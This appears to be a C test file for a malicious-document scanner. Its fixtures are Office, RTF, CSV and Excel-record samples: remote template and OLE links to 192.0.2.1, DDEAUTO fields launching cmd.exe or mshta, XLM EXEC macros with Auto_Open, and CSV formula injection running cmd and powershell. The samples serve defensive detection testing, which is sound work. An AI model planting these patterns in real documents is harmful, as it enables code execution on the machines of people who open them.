/* What documents do when they are opened: relations to elsewhere, fields, links, macros of the older kind. Packages, texts and records are
 * made here. */
#include "lab/look.h"
#include "lab/xlm.h"
#include "lab/zipmake.h"
#include "tap.h"

static struct arena *a;

#define RELATION(kind, target) \
	S("<?xml version=\"1.0\"?><Relationships xmlns=\"x\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" kind \
	  "\" Target=\"" target "\" TargetMode=\"External\"/></Relationships>")

static const struct row {
	const char *label, *name; /* of the part; NULL: the bytes are the submission */
	struct str bytes;
	const char *feature;
	enum lab_verdict verdict;
	const char *fact, *value;
} ROWS[] = {
	{ "a template of another machine", "word/_rels/settings.xml.rels", RELATION("attachedTemplate", "http://192.0.2.1/a.dotm"), "ooxml.template-elsewhere", LAB_V_SUSPICIOUS,
	  "ooxml.external", "attachedTemplate http://192.0.2.1/a.dotm" },
	{ "a template of a share", "word/_rels/settings.xml.rels", RELATION("attachedTemplate", "\\\\192.0.2.1\\a.dotm"), "ooxml.template-elsewhere", LAB_V_SUSPICIOUS, NULL, NULL },
	{ "a template written with references", "word/_rels/settings.xml.rels", RELATION("attachedTemplate", "&#104;ttp://192.0.2.1/?a&amp;b"), "ooxml.template-elsewhere", LAB_V_SUSPICIOUS,
	  "ooxml.external", "attachedTemplate http://192.0.2.1/?a&b" },
	{ "a template of this machine", "word/_rels/settings.xml.rels", RELATION("attachedTemplate", "file:///C:\\Templates\\letter.dotx"), NULL, LAB_V_NO_FINDING, "ooxml.external",
	  "attachedTemplate file:///C:\\Templates\\letter.dotx" },
	{ "an object of another machine", "ppt/_rels/a.rels", RELATION("oleObject", "https://192.0.2.1/o"), "ooxml.object-elsewhere", LAB_V_SUSPICIOUS, NULL, NULL },
	{ "a handler that runs", "word/_rels/document.xml.rels", RELATION("oleObject", "mhtml:http://192.0.2.1/!x-usc:http://192.0.2.1/"), "ooxml.target-runs", LAB_V_SUSPICIOUS, NULL, NULL },
	{ "a link in the text", "word/_rels/document.xml.rels", RELATION("hyperlink", "https://www.example.org/"), NULL, LAB_V_NO_FINDING, "ooxml.external", "hyperlink https://www.example.org/" },
	{ "a picture of another machine", "word/_rels/document.xml.rels", RELATION("image", "https://www.example.org/p.png"), "ooxml.image-elsewhere", LAB_V_NO_FINDING, NULL, NULL },
	{ "UTF-16", "word/_rels/s.rels",
	  S("\xff\xfe<\0R\0e\0l\0a\0t\0i\0o\0n\0s\0h\0i\0p\0 \0T\0y\0p\0e\0=\0\"\0x\0/\0f\0r\0a\0m\0e\0\"\0 \0T\0a\0r\0g\0e\0t\0=\0\"\0h\0t\0t\0p\0:\0/\0/\0a\0\"\0 \0T\0a\0r\0g\0e\0t\0M\0o\0d\0e\0=\0'\0E\0x\0t\0e\0r\0n\0a\0l\0'\0/\0>\0"),
	  "ooxml.frame-elsewhere", LAB_V_SUSPICIOUS, "ooxml.external", "frame http://a" },
	{ "a field that starts a program", "word/document.xml",
	  S("<w:document><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:document>"),
	  "dde.starts-program", LAB_V_SUSPICIOUS, "dde", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"" },
	{ "a field in numbers", "word/document.xml",
	  S("<w:document><w:fldSimple w:instr=\"QUOTE 68 68 69 65 85 84 79 32 99 109 100 32 47 99\"/></w:document>"), "dde.starts-program", LAB_V_SUSPICIOUS, NULL, NULL },
	{ "a field of a table", "word/document.xml", S("<w:document><w:instrText>DDEAUTO Excel \"Book1\" \"R1C1\"</w:instrText></w:document>"), "dde.link", LAB_V_NO_FINDING, "dde",
	  "DDEAUTO Excel \"Book1\" \"R1C1\"" },
	{ "a field of a page", "word/document.xml", S("<w:document><w:instrText>PAGE \\* MERGEFORMAT</w:instrText></w:document>"), NULL, LAB_V_NO_FINDING, NULL, NULL },
	{ "a workbook's link that starts a program", "xl/externalLinks/externalLink1.xml", S("<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"), "dde.starts-program",
	  LAB_V_SUSPICIOUS, "dde", "cmd|/c calc" },
	{ "a workbook's link to prices", "xl/externalLinks/externalLink1.xml", S("<externalLink><ddeLink ddeService=\"bloomberg\" ddeTopic=\"prices\"/></externalLink>"), "dde.link", LAB_V_NO_FINDING, NULL,
	  NULL },
	{ "a sheet of macros", "xl/macrosheets/sheet1.xml", S("<xm:macrosheet><c><f>EXEC(\"calc\")</f></c></xm:macrosheet>"), "xlm.starts-program", LAB_V_SUSPICIOUS, "xlm.formula", "EXEC(\"calc\")" },
	{ "a harmless sheet of macros", "xl/macrosheets/sheet1.xml", S("<xm:macrosheet><c><f>SUM(A1:A2)</f></c></xm:macrosheet>"), "xlm.sheet", LAB_V_NO_FINDING, NULL, NULL },
	{ "the same words on another sheet", "xl/worksheets/sheet1.xml", S("<worksheet><c><f>EXEC(\"calc\")</f></c></worksheet>"), NULL, LAB_V_NO_FINDING, NULL, NULL },
	{ "a name that runs by itself", "xl/workbook.xml", S("<workbook><definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName></workbook>"), "xlm.by-itself", LAB_V_NO_FINDING, NULL, NULL },
	{ "a macro sheet in records", "xl/macrosheets/sheet1.bin",
	  S("\x09\x21" "\0\0\0\0\0\0\0\0" "\0\0\0\0\0\0\0\0" "\0\0" "\x09\0\0\0" "\x17\1\0c\0\x42\1\x6e\0" "\0\0"), "xlm.starts-program", LAB_V_SUSPICIOUS, "xlm.function", "exec" },
	{ "RTF with a field", NULL, S("{\\rtf1{\\field{\\*\\fldinst {\\b DDE}AUTO c:\\\\cmd.exe \"/c calc\"}{\\fldrslt x}}}"), "dde.starts-program", LAB_V_SUSPICIOUS, "dde", "DDEAUTO c:\\cmd.exe \"/c calc\"" },
	{ "RTF with a field in digits", NULL, S("{\\rtf1{\\field{\\*\\fldinst \\'44\\'44E\\u65?UTO mshta http}}}"), "dde.starts-program", LAB_V_SUSPICIOUS, NULL, NULL },
	{ "RTF with a template", NULL, S("{\\rtf1{\\*\\template http://192.0.2.1/t.dotm}text}"), "rtf.template-elsewhere", LAB_V_SUSPICIOUS, "rtf.template", "http://192.0.2.1/t.dotm" },
	{ "RTF with a template of this machine", NULL, S("{\\rtf1{\\*\\template C:\\\\T\\\\a.dotm}text}"), NULL, LAB_V_NO_FINDING, "rtf.template", "C:\\T\\a.dotm" },
	{ "RTF with a page number", NULL, S("{\\rtf1{\\field{\\*\\fldinst PAGE}}}"), NULL, LAB_V_NO_FINDING, NULL, NULL },
	{ "CSV that starts a program", NULL, S("name,value\r\na,=cmd|'/c calc'!A1\r\n"), "dde.starts-program", LAB_V_SUSPICIOUS, "dde", "cmd|'/c calc'" },
	{ "CSV in quotes", NULL, S("name;value\r\na;\"+1+powershell|'-c x'!A1\"\r\n"), "dde.starts-program", LAB_V_SUSPICIOUS, NULL, NULL },
	{ "CSV that fetches", NULL, S("a,=WEBSERVICE(\"http://192.0.2.1/\")\n"), "csv.fetches", LAB_V_NO_FINDING, NULL, NULL },
	{ "a text with bars", NULL, S("- ls | cat! no\n+ cmd | more\n=a|b\n"), NULL, LAB_V_NO_FINDING, NULL, NULL },
};

static void parts(void)
{
	for (size_t i = 0; i < COUNTOF(ROWS); i++) {
		const struct row *r = &ROWS[i];
		struct lab_report rep;
		struct zip_make z = { 0 };
		size_t features = 0;
		bool good;

		if (r->name != NULL) {
			zip_begin(&z);
			zip_add(&z, str_of(r->name), r->bytes);
			zip_end(&z);
		}
		good = look_at(r->name != NULL ? buf_view(&z.out) : r->bytes, S(""), a, &rep);
		for (size_t k = 0; good && k < rep.matches.n; k++)
			features += rep.matches.p[k].m.kind == LAB_FEATURE;
		OK(good && lab_verdict_of(&rep) == r->verdict, "%s: %s", r->label, good ? lab_verdict_name(lab_verdict_of(&rep)) : "no report");
		OK(r->feature == NULL ? features == 0 : look_match(&rep, r->feature) != NULL, "%s: %zu features", r->label, features);
		OK(r->fact == NULL || look_fact(&rep, r->fact, str_of(r->value)), "%s: its fact", r->label);
		OK(rep.bytes_seen == rep.bytes_total && rep.unseen.n == 0, "%s: all seen", r->label);
		if (r->name != NULL)
			buf_done(&z.out);
	}
}

/* --- records of BIFF8 --- */

static void rec(struct buf *b, unsigned sort, struct str bytes)
{
	zip_le16(b, sort);
	zip_le16(b, (unsigned)bytes.n);
	buf_str(b, bytes);
}

static void workbook_begin(struct buf *b, const char *sheet_flags)
{
	buf_init(b, 65536);
	rec(b, 0x809, S("\0\6\5\0\0\0\0\0\0\0\0\0\0\0\0\0"));
	if (sheet_flags != NULL) {
		struct buf s;

		buf_init(&s, 64);
		buf_put(&s, "\0\0\0\0", 4);
		buf_put(&s, sheet_flags, 2);
		buf_put(&s, "\2\0M1", 4);
		rec(b, 0x85, buf_view(&s));
		buf_done(&s);
	}
}

static void put_formula(struct buf *b, struct str tokens)
{
	struct buf f;

	buf_init(&f, 4096);
	buf_put(&f, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 20);
	zip_le16(&f, (unsigned)tokens.n);
	buf_str(&f, tokens);
	rec(b, 6, buf_view(&f));
	buf_done(&f);
}

static void workbooks(void)
{
	struct buf b;
	struct lab_report r;

	workbook_begin(&b, "\2\1");
	rec(&b, 0x18, S("\x20\0\0\1\0\0\0\0\1\0\0\0\0\0\0\1"));
	rec(&b, 0x1ae, S("\1\0\x0b\0\0cmd\3/c calc"));
	rec(&b, 0x0a, S(""));
	rec(&b, 0x809, S("\0\6\x40\0\0\0\0\0\0\0\0\0\0\0\0\0"));
	put_formula(&b, S("\x17\4\0calc\x44\0\0\0\0\x41\x6f\0\x08\x42\1\x6e\0"));
	put_formula(&b, S("\x19\4\1\0\0\0\0\0\x1e\1\0\x42\2\x96\0"));
	rec(&b, 0x0a, S(""));
	OK(look_at(buf_view(&b), S(""), a, &r) && lab_verdict_of(&r) == LAB_V_SUSPICIOUS, "a workbook with macros: %s", lab_verdict_name(lab_verdict_of(&r)));
	OK(look_match(&r, "xlm.starts-program") != NULL && look_match(&r, "xlm.by-itself") != NULL && look_match(&r, "xlm.hidden-sheet") != NULL, "what they do, when, and where");
	OK(look_match(&r, "dde.starts-program") != NULL && look_fact(&r, "dde", S("cmd|/c calc")), "and its link");
	OK(look_fact(&r, "xlm.sheet", S("M1")) && look_fact(&r, "xlm.formulas", S("2")) && look_fact(&r, "xlm.function", S("exec")) && look_fact(&r, "xlm.function", S("call")) &&
	   look_fact(&r, "xlm.function", S("char")), "and its facts");
	OK(!look_fact(&r, "xlm.formulas.unread", S("1")), "every formula was read to its end");
	buf_done(&b);

	workbook_begin(&b, "\0\0");
	put_formula(&b, S("\x42\1\x6e\0"));
	OK(look_at(buf_view(&b), S(""), a, &r) && lab_verdict_of(&r) == LAB_V_NO_FINDING && r.matches.n == 0, "the same token on an ordinary sheet is none of macros");
	buf_done(&b);

	workbook_begin(&b, NULL);
	rec(&b, 0x2f, S("\0\0\1\2\3\4"));
	rec(&b, 0x85, S("\x11\x22\x33\x44\x55\x66\x77\x11"));
	OK(look_at(buf_view(&b), S(""), a, &r) && lab_verdict_of(&r) == LAB_V_INCOMPLETE && r.unseen.n == 1 && r.unseen.p[0].at == 20, "an encrypted workbook: %s",
	   lab_verdict_name(lab_verdict_of(&r)));
	buf_done(&b);
}

int main(void)
{
	a = arena_new((size_t)256 << 20);
	parts();
	workbooks();
	arena_free(a);
	return tap_done();
}
